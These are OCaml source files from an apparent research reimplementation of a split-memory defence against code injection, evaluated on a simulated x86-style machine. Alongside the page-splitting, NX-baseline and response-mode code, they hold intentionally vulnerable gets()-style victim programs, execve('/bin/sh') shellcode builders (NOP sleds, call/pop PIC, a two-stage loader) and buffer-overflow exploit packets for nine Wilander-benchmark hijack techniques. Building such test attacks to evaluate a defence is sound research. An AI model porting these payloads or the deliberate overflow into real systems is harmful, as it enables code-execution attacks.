    L (tag ^ "_copy");
    I (Loadb (EAX, ESI, 0));
    I (Cmp_ri (EAX, 0x0A));
    I (Jz (Lbl (tag ^ "_end")));
    I (Storeb (EDI, 0, EAX));
    I (Add_ri (ESI, 1));
    I (Add_ri (EDI, 1));
    I (Jmp (Lbl (tag ^ "_copy")));
    L (tag ^ "_end");
  ]

(* Bounded copy of ecx bytes from [esi] to [edi] (not a bug). *)
let copy_counted ~tag =
  [
    L (tag ^ "_copy");
    I (Cmp_ri (ECX, 0));
    I (Jz (Lbl (tag ^ "_end")));
    I (Loadb (EAX, ESI, 0));
    I (Storeb (EDI, 0, EAX));
    I (Add_ri (ESI, 1));
    I (Add_ri (EDI, 1));
    I (Add_ri (ECX, -1));
    I (Jmp (Lbl (tag ^ "_copy")));
    L (tag ^ "_end");
  ]

(* setjmp/longjmp over a 12-byte jmp_buf: saved eip, esp, ebp.
   setjmp: ebx = buf, returns 0. longjmp: ebx = buf, ecx = value. *)
let setjmp_longjmp =
  [
    L "setjmp";
    I (Load (EAX, ESP, 0));
    I (Store (EBX, 0, EAX));
    I (Lea (EAX, ESP, 4));
    I (Store (EBX, 4, EAX));
    I (Store (EBX, 8, EBP));
    I (Mov_ri (EAX, 0));
    I Ret;
    L "longjmp";
    I (Load (EBP, EBX, 8));
    I (Load (ESP, EBX, 4));
    I (Load (EDX, EBX, 0));
    I (Mov_rr (EAX, ECX));
    I (Jmp_r EDX);
  ]

let filler n = String.make n 'A'

(* Touch one byte every [stride] bytes over [len] bytes starting at the
   address in esi (read) — used by workloads to generate memory traffic. *)
let touch_read_loop ~tag ~len ~stride =
  [
    I (Mov_ri (ECX, 0));
    L (tag ^ "_loop");
    I (Cmp_ri (ECX, len));
    I (Jge (Lbl (tag ^ "_end")));
    I (Mov_rr (EDI, ESI));
    I (Add (EDI, ECX));
    I (Loadb (EAX, EDI, 0));
    I (Add_ri (ECX, stride));
    I (Jmp (Lbl (tag ^ "_loop")));
    L (tag ^ "_end");
  ]

(* A function whose body spans [pages] code pages: each page executes a few
   instructions and jumps to the next, so calling it fetches from every page
   — multi-page hot code, like a real binary. *)
let code_filler ~tag ~pages =
  let block i =
    let this = Fmt.str "%s_%d" tag i in
    let next = if i + 1 = pages then tag ^ "_ret" else Fmt.str "%s_%d" tag (i + 1) in
    [ Align 4096; L this ]
    @ [
        I (Mov_rr (EBX, EAX));
        I (Shl (EBX, 1));
        I (Xor (EAX, EBX));
        I (Add_ri (EAX, i + 1));
        I (Jmp (Lbl next));
      ]
  in
  [ L tag; I (Jmp (Lbl (tag ^ "_0"))) ]
  @ List.concat (List.init pages block)
  @ [ L (tag ^ "_ret"); I Ret ]

(* Stride-walk [pages] pages starting [page_offset] pages into the bss,
   writing one byte every [stride] bytes — a working-set pass. *)
let ws_walk ~tag ~bss ~page_offset ~pages ~stride =
  [
    I (Mov_ri (ECX, 0));
    L (tag ^ "_walk");
    I (Cmp_ri (ECX, pages * 4096));
    I (Jge (Lbl (tag ^ "_walk_end")));
    I (Mov_ri (EBX, bss + (page_offset * 4096)));
    I (Add (EBX, ECX));
    I (Storeb (EBX, 0, ECX));
    I (Add_ri (ECX, stride));
    I (Jmp (Lbl (tag ^ "_walk")));
    L (tag ^ "_walk_end");
  ]
