(** Reusable guest-assembly fragments shared by victims and benchmark
    workloads.

    Conventions: syscall arguments in EAX/EBX/ECX/EDX per Linux [int 0x80];
    function arguments pushed on the stack (rightmost first); EAX returns.
    Fragments that need labels take a [tag] to keep them unique within an
    image. *)

val sys_exit : int -> Isa.Asm.program
val sys_read_imm : buf:int -> len:int -> Isa.Asm.program
(** read(0, buf, len) with an immediate buffer address. *)

val sys_write_imm : ?fd:int -> buf:int -> len:int -> unit -> Isa.Asm.program
val sys_getpid : Isa.Asm.program
val sys_fork : Isa.Asm.program
val sys_yield : Isa.Asm.program

val copy_until_newline : tag:string -> Isa.Asm.program
(** Unbounded copy from [esi] to [edi] until a newline (not copied) — the
    gets()-style vulnerability shared by several victims. Clobbers eax. *)

val copy_counted : tag:string -> Isa.Asm.program
(** Copy ecx bytes from [esi] to [edi] (bounded; not a bug by itself). *)

val setjmp_longjmp : Isa.Asm.program
(** [setjmp]/[longjmp] over a 12-byte jmp_buf (saved eip, esp, ebp); buf in
    ebx, longjmp value in ecx. *)

val filler : int -> string
(** [n] bytes of 'A' padding for overflow strings. *)

val touch_read_loop : tag:string -> len:int -> stride:int -> Isa.Asm.program
(** Read one byte every [stride] bytes over [len] bytes from [esi]. *)

val code_filler : tag:string -> pages:int -> Isa.Asm.program
(** A callable function whose body spans [pages] code pages (a few
    instructions per page, chained by jumps) — multi-page hot code. *)

val ws_walk : tag:string -> bss:int -> page_offset:int -> pages:int -> stride:int -> Isa.Asm.program
(** Write one byte every [stride] bytes across [pages] pages starting
    [page_offset] pages after [bss] — a working-set pass. *)
