(** Attack response modes (paper §4.5).

    All three fire at the same unique moment: the injected code is about to
    execute its first instruction, but has not yet. *)

type t =
  | Break
      (** route the fetch to the pristine code copy; the process crashes
          and the kernel terminates it — the defacto standard response *)
  | Observe of { sebek : bool }
      (** log the attempt, lock the page to its data copy and let the
          attack proceed (honeypot mode); [sebek] additionally enables
          syscall tracing of the compromised process from that moment on *)
  | Forensics of { payload : string option }
      (** dump the first bytes of shellcode at EIP; if [payload] is given,
          inject it as "forensic shellcode" onto the code copy and run it
          (the paper's Argos-style substitution), otherwise terminate *)
  | Recovery
      (** the paper's proposed recovery mode (§4.5): transfer execution to
          a callback the application registered via the sigrecover syscall
          so it can check data integrity or terminate gracefully; falls
          back to Break when no handler is registered *)

val name : t -> string
