(** Page-splitting primitives (paper §4.2.2). *)

val split_page : ?restrict:bool -> Kernel.Protection.ctx -> Kernel.Pte.t -> unit
(** Duplicate the page into a code copy (the original frame) and a data
    copy, restrict the PTE to supervisor mode ([restrict], default true —
    software-managed-TLB machines pass false) and invalidate stale TLB
    entries. Idempotent. *)

val lock_to_data : Kernel.Protection.ctx -> Kernel.Pte.t -> unit
(** Disable splitting for the page and lock the mapping to the data copy
    (observe mode's continuation path). *)

val is_active_split : Kernel.Pte.t -> bool
(** Split and not locked — i.e. the desync machinery is live. *)
