lib/core/splitter.ml: Hw Kernel
