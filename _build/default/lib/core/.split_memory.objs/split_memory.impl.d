lib/core/split_memory.ml: Char Fmt Hw Isa Kernel List Option Policy Response Splitter String
