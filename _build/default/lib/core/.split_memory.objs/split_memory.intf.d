lib/core/split_memory.mli: Kernel Policy Response Splitter
