lib/core/policy.mli: Kernel
