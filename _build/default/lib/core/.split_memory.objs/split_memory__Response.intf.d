lib/core/response.mli:
