lib/core/policy.ml: Fmt Kernel
