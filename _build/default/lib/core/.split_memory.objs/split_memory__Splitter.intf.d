lib/core/splitter.mli: Kernel
