lib/core/response.ml:
