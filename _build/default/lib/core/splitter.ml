(* Page splitting (paper §4.2.2): duplicate the physical page, keep the
   original as the code copy, route the PTE into supervisor mode so every
   TLB miss traps, and mark the PTE as split. *)

let split_page ?(restrict = true) (ctx : Kernel.Protection.ctx) (pte : Kernel.Pte.t) =
  if not (Kernel.Pte.is_split pte) then begin
    let data_frame = Kernel.Frame_alloc.alloc ctx.alloc in
    Hw.Phys.copy_frame ctx.phys ~src:pte.frame ~dst:data_frame;
    pte.split <- Some { code_frame = pte.frame; data_frame; locked_to_data = false };
    (* On x86 the PTE goes supervisor so every TLB miss traps (Algorithm 1);
       on software-managed-TLB machines every miss already traps, so the
       PTE can stay user-accessible. *)
    if restrict then Kernel.Pte.restrict pte;
    (* Any unified entry cached before the split must go. *)
    Hw.Mmu.invlpg ctx.mmu pte.vpn
  end

(* Observe mode (Algorithm 3): give up on splitting this page and lock the
   sole mapping to the data copy, where the injected code lives, so the
   attack proceeds under observation. The code copy stays allocated until
   process teardown (both frames are freed by the exit path). *)
let lock_to_data (ctx : Kernel.Protection.ctx) (pte : Kernel.Pte.t) =
  match pte.split with
  | None -> ()
  | Some s ->
    s.locked_to_data <- true;
    pte.frame <- s.data_frame;
    Kernel.Pte.unrestrict pte;
    Hw.Mmu.invlpg ctx.mmu pte.vpn

let is_active_split (pte : Kernel.Pte.t) =
  match pte.split with Some s -> not s.locked_to_data | None -> false
