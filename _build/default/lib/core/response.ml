type t =
  | Break
  | Observe of { sebek : bool }
  | Forensics of { payload : string option }
  | Recovery

let name = function
  | Break -> "break"
  | Observe _ -> "observe"
  | Forensics _ -> "forensics"
  | Recovery -> "recovery"
