type t =
  | All_pages
  | Mixed_only
  | Fraction of int

(* Deterministic per-vpn decision so runs are reproducible: Knuth
   multiplicative hash of the vpn against the percentage threshold. *)
let vpn_hash vpn = vpn * 2654435761 land 0x7FFFFFFF

let is_mixed_kind = function
  | Kernel.Pte.Mixed -> true
  | Kernel.Pte.Mmap -> true (* write+exec mmap regions are mixed by nature *)
  | Kernel.Pte.Code | Kernel.Pte.Rodata | Kernel.Pte.Data | Kernel.Pte.Bss
  | Kernel.Pte.Heap | Kernel.Pte.Stack | Kernel.Pte.Lib ->
    false

let should_split t (region : Kernel.Aspace.region) ~vpn =
  match t with
  | All_pages -> true
  | Mixed_only -> is_mixed_kind region.kind && region.writable && region.execable
  | Fraction pct -> vpn_hash vpn mod 100 < pct

let name = function
  | All_pages -> "all-pages"
  | Mixed_only -> "mixed-only"
  | Fraction pct -> Fmt.str "%d%%-of-pages" pct
