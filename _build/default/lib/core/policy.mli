(** Which pages get the split treatment (paper §4.2.1).

    - {!All_pages}: stand-alone mode for hardware without an
      execute-disable bit — every page of the process is split.
    - {!Mixed_only}: deployment alongside the NX bit — only pages holding
      both code and data (which NX cannot protect) are split.
    - {!Fraction}: split a fixed percentage of pages, chosen
      deterministically by vpn — the configuration behind the paper's
      Fig. 9 sweep. *)

type t = All_pages | Mixed_only | Fraction of int  (** percentage, 0–100 *)

val should_split : t -> Kernel.Aspace.region -> vpn:int -> bool
val is_mixed_kind : Kernel.Pte.kind -> bool
val name : t -> string
