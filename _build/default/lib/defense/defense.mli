(** The protection configurations compared throughout the evaluation. *)

module Nx_bit = Nx_bit

type t =
  | Unprotected
  | Unprotected_soft_tlb
      (** stock kernel on a software-managed-TLB machine (ablation baseline) *)
  | Nx  (** execute-disable bit alone *)
  | Split of {
      policy : Split_memory.Policy.t;
      response : Split_memory.Response.t;
      nx : bool;
      mechanism : Split_memory.mechanism;
    }

val unprotected : t
val unprotected_soft_tlb : t
val nx : t

val split_standalone : t
(** Split every page, break on detection — the paper's stand-alone mode,
    used for the performance figures. *)

val split_mixed_plus_nx : t
(** NX for normal pages, splitting only for mixed pages (§4.2.1). *)

val split_fraction : int -> t
(** Split the given percentage of pages, NX for the rest (Fig. 9). *)

val split_soft_tlb : t
(** The §4.7 port: split memory on a software-managed-TLB machine. *)

val split_dual_cr3 : t
(** The §3.3.1 hardware modification: dual pagetable registers. *)

val split_with :
  ?policy:Split_memory.Policy.t ->
  ?response:Split_memory.Response.t ->
  ?nx:bool ->
  ?mechanism:Split_memory.mechanism ->
  unit ->
  t

val to_protection : t -> Kernel.Protection.t

val tlb_fill : t -> Hw.Mmu.fill_mode
(** The TLB-fill hardware this defense assumes. *)

val name : t -> string
