lib/defense/nx_bit.mli: Kernel
