lib/defense/defense.ml: Hw Kernel Nx_bit Split_memory
