lib/defense/defense.mli: Hw Kernel Nx_bit Split_memory
