lib/defense/nx_bit.ml: Hw Kernel
