(** Execute-disable-bit baseline (DEP / PaX-style page-level protection).

    Marks non-executable every page of a region without execute intent;
    mixed code+data pages necessarily remain executable — the limitation
    (paper §2, Fig. 1b) split memory removes. A fetch blocked by the NX bit
    is logged as a detection and the process receives SIGSEGV. *)

val protection : unit -> Kernel.Protection.t
