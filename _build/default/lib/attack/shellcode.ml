open Isa.Asm

(* Payloads are assembled at the address where they will land ([base]), so
   embedded absolute references (the "/bin/sh" string, the second-stage
   buffer) resolve correctly — exactly how real shellcode is prepared once
   the injection address is known. Payload bytes must avoid 0x0A: the
   victims' overflow bugs are gets()-style copies terminated by newline. *)

let assemble_at ~base items = (Isa.Asm.assemble ~origin:base items).code

let nops n = List.init n (fun _ -> I Isa.Insn.Nop)

(* The ISA has no absolute-immediate label form, so absolute references
   inside a payload are computed with a two-pass closure: assemble once with
   dummy addresses to learn the layout, then assemble for real. *)
let with_layout ~base build =
  let pass items = (Isa.Asm.assemble ~origin:base items).code in
  let probe = Isa.Asm.assemble ~origin:base (build (fun _ -> 0)) in
  let resolve l = Isa.Asm.label probe l in
  pass (build resolve)

(* execve("/bin/sh") followed by a clean exit; the classic spawn-a-shell
   payload. *)
let execve_bin_sh ?(sled = 16) ~base () =
  with_layout ~base (fun lbl ->
      nops sled
      @ [
          I (Mov_ri (EBX, lbl "shstr"));
          I (Mov_ri (EAX, 11));
          I (Int 0x80);
          I (Mov_ri (EAX, 1));
          I (Mov_ri (EBX, 0));
          I (Int 0x80);
          L "shstr";
          Bytes "/bin/sh\000";
        ])

(* Position-independent variant, for attacks that do not know where their
   payload will land (Samba brute force): the call/pop trick recovers the
   runtime address, exactly as real-world PIC shellcode does. *)
let execve_bin_sh_pic ?(sled = 16) () =
  (* Layout is address-independent, so assemble at 0 and measure the
     distance from the pop to the embedded string. *)
  with_layout ~base:0 (fun lbl ->
      nops sled
      @ [
          I (Call (Lbl "next"));
          L "next";
          I (Pop ESI);
          I (Lea (EBX, ESI, lbl "shstr" - lbl "next"));
          I (Mov_ri (EAX, 11));
          I (Int 0x80);
          I (Mov_ri (EAX, 1));
          I (Mov_ri (EBX, 0));
          I (Int 0x80);
          L "shstr";
          Bytes "/bin/sh\000";
        ])

(* The paper's forensic demonstration payload: exit(0) so the compromised
   program terminates gracefully instead of segfaulting (§6.1.3). *)
let exit0 =
  assemble_at ~base:0
    [ I (Mov_ri (EBX, 0)); I (Mov_ri (EAX, 1)); I (Int 0x80) ]

(* Fake stack frame (old %ebp, return address) followed by shellcode — the
   layout the base-pointer-overwrite attack pivots the stack into. *)
let fake_frame ~base =
  let code_at = base + 8 in
  let word v = String.init 4 (fun i -> Char.chr ((v lsr (8 * i)) land 0xFF)) in
  word base ^ word code_at ^ execve_bin_sh ~sled:4 ~base:code_at ()

(* 7350wurm-style two-stage payload: stage one signals the attacker over
   the network ("OK!!"), pulls a second stage and jumps to it. *)
let two_stage_stage1 ?(sled = 16) ~base () =
  with_layout ~base (fun lbl ->
      nops sled
      @ [
          (* write(1, "OK!!", 4) *)
          I (Mov_ri (EAX, 4));
          I (Mov_ri (EBX, 1));
          I (Mov_ri (ECX, lbl "magic"));
          I (Mov_ri (EDX, 4));
          I (Int 0x80);
          (* read(0, stage2, 512) *)
          I (Mov_ri (EAX, 3));
          I (Mov_ri (EBX, 0));
          I (Mov_ri (ECX, lbl "stage2"));
          I (Mov_ri (EDX, 512));
          I (Int 0x80);
          I (Mov_ri (ESI, lbl "stage2"));
          I (Jmp_r ESI);
          L "magic";
          Bytes "OK!!";
          L "stage2";
        ])

let two_stage_stage2_addr ~base () =
  (* Where stage two will live: right after stage one's bytes. *)
  base + String.length (two_stage_stage1 ~sled:16 ~base ())

(* Stage two: spawn the shell, then run a minimal interactive loop so a
   honeypot (Sebek) has keystrokes to log; 'q' quits. *)
let interactive_shell ~base =
  with_layout ~base (fun lbl ->
      [
        I (Mov_ri (EBX, lbl "shstr"));
        I (Mov_ri (EAX, 11));
        I (Int 0x80);
        L "loop";
        (* write(1, "sh$ ", 4) *)
        I (Mov_ri (EAX, 4));
        I (Mov_ri (EBX, 1));
        I (Mov_ri (ECX, lbl "prompt"));
        I (Mov_ri (EDX, 4));
        I (Int 0x80);
        (* read(0, cmd, 64) *)
        I (Mov_ri (EAX, 3));
        I (Mov_ri (EBX, 0));
        I (Mov_ri (ECX, lbl "cmd"));
        I (Mov_ri (EDX, 64));
        I (Int 0x80);
        I (Cmp_ri (EAX, 0));
        I (Jz (Lbl "quit"));
        I (Mov_ri (ESI, lbl "cmd"));
        I (Loadb (EAX, ESI, 0));
        I (Cmp_ri (EAX, Char.code 'q'));
        I (Jz (Lbl "quit"));
        I (Jmp (Lbl "loop"));
        L "quit";
        I (Mov_ri (EAX, 1));
        I (Mov_ri (EBX, 0));
        I (Int 0x80);
        L "shstr";
        Bytes "/bin/sh\000";
        L "prompt";
        Bytes "sh$ ";
        L "cmd";
        Space 64;
      ])

let word32 v = String.init 4 (fun i -> Char.chr ((v lsr (8 * i)) land 0xFF))

let contains_newline s = String.exists (fun c -> c = '\n') s
