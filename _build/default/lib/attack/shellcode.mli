(** Shellcode builders: genuine encoded payload bytes, assembled at the
    address they will be injected to.

    Payloads never contain 0x0A — the victims' overflow bugs are
    gets()-style newline-terminated copies, the classic constraint real
    shellcode authors work around. *)

val assemble_at : base:int -> Isa.Asm.program -> string
val nops : int -> Isa.Asm.program
(** A NOP sled ([0x90], as on x86 — visible in forensics dumps). *)

val with_layout : base:int -> ((string -> int) -> Isa.Asm.program) -> string
(** Assemble a payload at [base] with absolute intra-payload label
    resolution. *)

val execve_bin_sh : ?sled:int -> base:int -> unit -> string
(** Spawn "/bin/sh" then exit — attack success marker. *)

val execve_bin_sh_pic : ?sled:int -> unit -> string
(** Position-independent spawn-a-shell (call/pop self-location), for
    brute-force attacks that only guess the landing address. *)

val exit0 : string
(** The paper's forensic demonstration payload: [exit(0)] (§6.1.3). *)

val fake_frame : base:int -> string
(** [saved-ebp; return-address] fake frame followed by shellcode, for the
    base-pointer pivot attack. *)

val two_stage_stage1 : ?sled:int -> base:int -> unit -> string
(** 7350wurm-style stage one: write "OK!!" back, read stage two, jump. *)

val two_stage_stage2_addr : base:int -> unit -> int
(** Where stage two lands, given stage one's base. *)

val interactive_shell : base:int -> string
(** Stage two: spawn a shell, then prompt/read command loop ('q' quits) —
    gives Sebek keystrokes to log. *)

val word32 : int -> string
(** Little-endian 32-bit word as bytes (addresses inside overflow strings). *)

val contains_newline : string -> bool
