open Isa.Asm

(* A reconstruction of the Wilander & Kamkar buffer-overflow benchmark as
   used in the paper's Table 1: every combination of control-flow hijack
   technique and shellcode injection segment. The victim leaks the landing
   address (standing in for the info-leak step real exploits performed),
   receives shellcode into the chosen segment, then receives an attack
   packet that triggers a genuine unbounded newline-terminated copy. *)

type technique =
  | Ret_addr
  | Base_ptr
  | Func_ptr_var
  | Func_ptr_param
  | Longjmp_var
  | Longjmp_param
  | Ptr_ret_addr
  | Ptr_func_ptr
  | Ptr_longjmp

type location = Stack | Heap | Bss | Data

let techniques =
  [
    Ret_addr;
    Base_ptr;
    Func_ptr_var;
    Func_ptr_param;
    Longjmp_var;
    Longjmp_param;
    Ptr_ret_addr;
    Ptr_func_ptr;
    Ptr_longjmp;
  ]

(* Wilander's two attack classes: direct overflow of the target, or
   overflow of an intermediate data pointer through which a later write is
   redirected onto the target. *)
let is_indirect = function
  | Ptr_ret_addr | Ptr_func_ptr | Ptr_longjmp -> true
  | Ret_addr | Base_ptr | Func_ptr_var | Func_ptr_param | Longjmp_var | Longjmp_param ->
    false

let locations = [ Stack; Heap; Bss; Data ]

let technique_name = function
  | Ret_addr -> "return address (direct overflow)"
  | Base_ptr -> "old base pointer (frame pivot)"
  | Func_ptr_var -> "function pointer (variable)"
  | Func_ptr_param -> "function pointer (parameter)"
  | Longjmp_var -> "longjmp buffer (variable)"
  | Longjmp_param -> "longjmp buffer (parameter)"
  | Ptr_ret_addr -> "return address (pointer redirect)"
  | Ptr_func_ptr -> "function pointer (pointer redirect)"
  | Ptr_longjmp -> "longjmp buffer (pointer redirect)"

let location_name = function
  | Stack -> "stack"
  | Heap -> "heap"
  | Bss -> "bss"
  | Data -> "data"

let selector = function Stack -> "\000" | Heap -> "\001" | Bss -> "\002" | Data -> "\003"

let bss_buf_off = 0x1C0
let bss_jbuf_off = 0x200
let heap_landing_off = 0x100
let bss_landing_off = 0x100
let heap_buf_off = 0x300
let heap_jbuf_off = 0x340
let stack_landing_disp = -768

(* --- the victim image, one per technique ------------------------------- *)

let victim technique =
  let name = Fmt.str "wilander-%s" (technique_name technique) in
  let indirect = is_indirect technique in
  let data ~lbl =
    [
      L "sel";
      Space 1;
      Align 16;
      L "landing_ptr";
      Word32 0;
      Align 16;
      L "packet";
      Space 512;
      Align 16;
      L "dlanding";
      Space 128;
      Align 16;
      L "gbuf";
      Space 64;
      L "gfptr";
      Word32 (lbl "benign");
      L "valbuf";
      Word32 0;
      L "done_msg";
      Bytes "DONE";
    ]
  in
  let prologue lbl =
    [
      L "main";
      I (Push EBP);
      I (Mov_rr (EBP, ESP));
      I (Add_ri (ESP, -1024));
    ]
    @ Guest.sys_read_imm ~buf:(lbl "sel") ~len:1
    @ [
        I (Mov_ri (ESI, lbl "sel"));
        I (Loadb (EAX, ESI, 0));
        I (Cmp_ri (EAX, 0));
        I (Jz (Lbl "land_stack"));
        I (Cmp_ri (EAX, 1));
        I (Jz (Lbl "land_heap"));
        I (Cmp_ri (EAX, 2));
        I (Jz (Lbl "land_bss"));
        I (Mov_ri (EDI, lbl "dlanding"));
        I (Jmp (Lbl "land_done"));
        L "land_stack";
        I (Lea (EDI, EBP, stack_landing_disp));
        I (Jmp (Lbl "land_done"));
        L "land_heap";
        I (Mov_ri (EDI, Kernel.Layout.heap_base + heap_landing_off));
        I (Jmp (Lbl "land_done"));
        L "land_bss";
        I (Mov_ri (EDI, lbl "bss" + bss_landing_off));
        L "land_done";
        I (Mov_ri (ESI, lbl "landing_ptr"));
        I (Store (ESI, 0, EDI));
      ]
    @ Guest.sys_write_imm ~buf:(lbl "landing_ptr") ~len:4 ()
    @ [
        (* read shellcode into the landing buffer *)
        I (Mov_ri (EAX, 3));
        I (Mov_ri (EBX, 0));
        I (Mov_rr (ECX, EDI));
        I (Mov_ri (EDX, 512));
        I (Int 0x80);
      ]
    @ (if indirect then [] else Guest.sys_read_imm ~buf:(lbl "packet") ~len:512)
  in
  let finish lbl =
    (L "finish" :: Guest.sys_write_imm ~buf:(lbl "done_msg") ~len:4 ()) @ Guest.sys_exit 0
  in
  let benign = [ L "benign"; I Ret ] in
  let vuln_frame_copy ~tag ~extra_after_copy =
    [
      L tag;
      I (Push EBP);
      I (Mov_rr (EBP, ESP));
      I (Add_ri (ESP, -64));
      I (Load (ESI, EBP, 8));
      I (Lea (EDI, EBP, -64));
    ]
    @ Guest.copy_until_newline ~tag
    @ extra_after_copy
    @ [ I (Mov_rr (ESP, EBP)); I (Pop EBP); I Ret ]
  in
  (* Wilander's pointer-redirection class: the overflow clobbers a data
     pointer; the attacker's value is then written *through* it onto the
     real target (return address / function pointer / jmp_buf). The victim
     leaks the slot address it will be attacked through, standing in for
     the target-discovery step of the published exploits. *)
  let vuln2 lbl ~slot ~trigger =
    [
      L "vuln2";
      I (Push EBP);
      I (Mov_rr (EBP, ESP));
      I (Add_ri (ESP, -72));
    ]
    @ slot
    @ [ I (Mov_ri (ESI, lbl "landing_ptr")); I (Store (ESI, 0, EDI)) ]
    @ Guest.sys_write_imm ~buf:(lbl "landing_ptr") ~len:4 ()
    @ [
        (* the innocent pointer the overflow will clobber *)
        I (Mov_ri (EAX, lbl "dlanding"));
        I (Store (EBP, -8, EAX));
      ]
    @ Guest.sys_read_imm ~buf:(lbl "packet") ~len:512
    @ [ I (Mov_ri (ESI, lbl "packet")); I (Lea (EDI, EBP, -72)) ]
    @ Guest.copy_until_newline ~tag:"pr"
    @ Guest.sys_read_imm ~buf:(lbl "valbuf") ~len:4
    @ [
        (* the redirected write *)
        I (Load (EDI, EBP, -8));
        I (Mov_ri (ESI, lbl "valbuf"));
        I (Load (EAX, ESI, 0));
        I (Store (EDI, 0, EAX));
      ]
    @ trigger
    @ [ I (Mov_rr (ESP, EBP)); I (Pop EBP); I Ret ]
  in
  let body lbl =
    match technique with
    | Ret_addr ->
      [
        I (Mov_ri (EAX, lbl "packet"));
        I (Push EAX);
        I (Call (Lbl "vuln"));
        I (Add_ri (ESP, 4));
        I (Jmp (Lbl "finish"));
      ]
      @ vuln_frame_copy ~tag:"vuln" ~extra_after_copy:[]
    | Base_ptr ->
      [
        I (Call (Lbl "caller"));
        I (Jmp (Lbl "finish"));
        L "caller";
        I (Push EBP);
        I (Mov_rr (EBP, ESP));
        I (Mov_ri (EAX, lbl "packet"));
        I (Push EAX);
        I (Call (Lbl "vuln"));
        I (Add_ri (ESP, 4));
        I (Mov_rr (ESP, EBP));
        I (Pop EBP);
        I Ret;
      ]
      @ vuln_frame_copy ~tag:"vuln" ~extra_after_copy:[]
    | Func_ptr_var ->
      [
        I (Mov_ri (ESI, lbl "packet"));
        I (Mov_ri (EDI, lbl "gbuf"));
      ]
      @ Guest.copy_until_newline ~tag:"fv"
      @ [
          I (Mov_ri (ESI, lbl "gfptr"));
          I (Load (EAX, ESI, 0));
          I (Call_r EAX);
          I (Jmp (Lbl "finish"));
        ]
    | Func_ptr_param ->
      [
        I (Mov_ri (EAX, lbl "benign"));
        I (Push EAX);
        I (Mov_ri (EAX, lbl "packet"));
        I (Push EAX);
        I (Call (Lbl "vuln"));
        I (Add_ri (ESP, 8));
        I (Jmp (Lbl "finish"));
      ]
      @ vuln_frame_copy ~tag:"vuln"
          ~extra_after_copy:[ I (Load (EAX, EBP, 12)); I (Call_r EAX) ]
    | Longjmp_var ->
      [
        I (Mov_ri (EBX, lbl "bss" + bss_jbuf_off));
        I (Call (Lbl "setjmp"));
        I (Cmp_ri (EAX, 0));
        I (Jnz (Lbl "finish"));
        I (Mov_ri (ESI, lbl "packet"));
        I (Mov_ri (EDI, lbl "bss" + bss_buf_off));
      ]
      @ Guest.copy_until_newline ~tag:"lv"
      @ [
          I (Mov_ri (EBX, lbl "bss" + bss_jbuf_off));
          I (Mov_ri (ECX, 1));
          I (Jmp (Lbl "longjmp"));
        ]
      @ Guest.setjmp_longjmp
    | Longjmp_param ->
      [
        I (Mov_ri (EBX, Kernel.Layout.heap_base + heap_jbuf_off));
        I (Call (Lbl "setjmp"));
        I (Cmp_ri (EAX, 0));
        I (Jnz (Lbl "finish"));
        I (Mov_ri (EAX, Kernel.Layout.heap_base + heap_jbuf_off));
        I (Push EAX);
        I (Mov_ri (EAX, lbl "packet"));
        I (Push EAX);
        I (Call (Lbl "vuln"));
        I (Add_ri (ESP, 8));
        I (Jmp (Lbl "finish"));
        L "vuln";
        I (Push EBP);
        I (Mov_rr (EBP, ESP));
        I (Load (ESI, EBP, 8));
        I (Mov_ri (EDI, Kernel.Layout.heap_base + heap_buf_off));
      ]
      @ Guest.copy_until_newline ~tag:"lp"
      @ [
          I (Load (EBX, EBP, 12));
          I (Mov_ri (ECX, 1));
          I (Jmp (Lbl "longjmp"));
        ]
      @ Guest.setjmp_longjmp
    | Ptr_ret_addr ->
      [ I (Call (Lbl "vuln2")); I (Jmp (Lbl "finish")) ]
      @ vuln2 lbl ~slot:[ I (Lea (EDI, EBP, 4)) ] ~trigger:[]
    | Ptr_func_ptr ->
      [ I (Call (Lbl "vuln2")); I (Jmp (Lbl "finish")) ]
      @ vuln2 lbl
          ~slot:[ I (Mov_ri (EDI, lbl "gfptr")) ]
          ~trigger:
            [ I (Mov_ri (ESI, lbl "gfptr")); I (Load (EAX, ESI, 0)); I (Call_r EAX) ]
    | Ptr_longjmp ->
      [
        I (Mov_ri (EBX, lbl "bss" + bss_jbuf_off));
        I (Call (Lbl "setjmp"));
        I (Cmp_ri (EAX, 0));
        I (Jnz (Lbl "finish"));
        I (Call (Lbl "vuln2"));
        I (Mov_ri (EBX, lbl "bss" + bss_jbuf_off));
        I (Mov_ri (ECX, 1));
        I (Jmp (Lbl "longjmp"));
      ]
      @ vuln2 lbl ~slot:[ I (Mov_ri (EDI, lbl "bss" + bss_jbuf_off)) ] ~trigger:[]
      @ Guest.setjmp_longjmp
  in
  Kernel.Image.build ~name ~bss_size:4096 ~data
    ~code:(fun ~lbl -> prologue lbl @ body lbl @ finish lbl @ benign)
    ~entry:"main" ()

(* --- exploits ----------------------------------------------------------- *)

let filler = Guest.filler

let packet technique ~landing =
  let w = Shellcode.word32 in
  let p =
    match technique with
    | Ret_addr -> filler 64 ^ w landing ^ w landing
    | Base_ptr -> filler 64 ^ w landing
    | Func_ptr_var -> filler 64 ^ w landing
    | Func_ptr_param -> filler 64 ^ w landing ^ w landing ^ w landing ^ w landing
    | Longjmp_var | Longjmp_param -> filler 64 ^ w landing
    | Ptr_ret_addr | Ptr_func_ptr | Ptr_longjmp ->
      (* [landing] here is the pointer target slot, not the shellcode *)
      filler 64 ^ w landing
  in
  assert (not (Shellcode.contains_newline p));
  p ^ "\n"

let shellcode technique ~landing =
  match technique with
  | Base_ptr -> Shellcode.fake_frame ~base:landing
  | Ret_addr | Func_ptr_var | Func_ptr_param | Longjmp_var | Longjmp_param
  | Ptr_ret_addr | Ptr_func_ptr | Ptr_longjmp ->
    Shellcode.execve_bin_sh ~sled:16 ~base:landing ()

let run ?defense technique location =
  let s = Runner.start ?defense (victim technique) in
  Runner.send s (selector location);
  let landing = Runner.leak_addr (Runner.recv s) in
  Runner.send s (shellcode technique ~landing);
  if is_indirect technique then begin
    (* the victim now leaks the slot the pointer will be redirected to *)
    let slot = Runner.leak_addr (Runner.recv s) in
    Runner.send s (packet technique ~landing:slot);
    ignore (Runner.step s);
    (* the value written through the clobbered pointer: the shellcode
       address *)
    Runner.send s (Shellcode.word32 landing);
    ignore (Runner.step s)
  end
  else begin
    ignore (Runner.step s);
    Runner.send s (packet technique ~landing);
    ignore (Runner.step s)
  end;
  Runner.outcome s

(* A benign session: no overflow, the victim must complete normally. *)
let benign_run ?defense technique =
  let s = Runner.start ?defense (victim technique) in
  Runner.send s (selector Data);
  let _leak = Runner.recv s in
  Runner.send s "not shellcode";
  ignore (Runner.step s);
  Runner.send s "short and harmless\n";
  ignore (Runner.step s);
  if is_indirect technique then begin
